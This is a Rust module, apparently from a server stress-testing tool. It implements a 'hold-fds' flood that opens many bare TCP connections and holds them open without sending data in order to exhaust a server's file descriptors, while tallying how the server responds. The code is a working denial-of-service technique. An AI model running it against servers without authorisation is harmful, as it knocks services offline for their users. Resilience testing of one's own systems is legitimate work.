//! `hold-fds`: bare TCP connections opened and held without a byte sent, to use up the
//! server's file descriptors.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncReadExt as _;

use super::response::status_of;
use super::{Flood, Tally, conn};

/// One bare TCP connection after another, opened and held without a byte sent until the
/// server closes it or the flood ends; a second's pause after each close, so that a server
/// refusing at once is not met with a busy loop.
pub(super) async fn task(flood: Arc<Flood>, tally: Arc<Tally>, n: usize) {
    // Opened over about a second (5 000 at 0.2 ms), not all in one burst at the backlog.
    tokio::time::sleep(Duration::from_micros(200 * n as u64)).await;
    while flood.running() {
        tally.attempt();
        let mut stream = match conn::open_tcp(&flood.endpoint, flood.source()).await {
            Ok(s) => s,
            Err(f) => {
                tally.error(&f);
                tokio::time::sleep(Duration::from_secs(1)).await;
                continue;
            }
        };
        tally.opened();
        let mut answer = Vec::new();
        let ended = tokio::select! {
            _ = tokio::time::sleep_until(flood.end.into()) => "held_to_end",
            _ = stream.read_to_end(&mut answer) => "closed_by_server",
        };
        tally.closed();
        if let Some(status) = status_of(&answer) {
            tally.status(status);
        }
        tally.outcome(ended);
        if ended == "closed_by_server" {
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    }
}
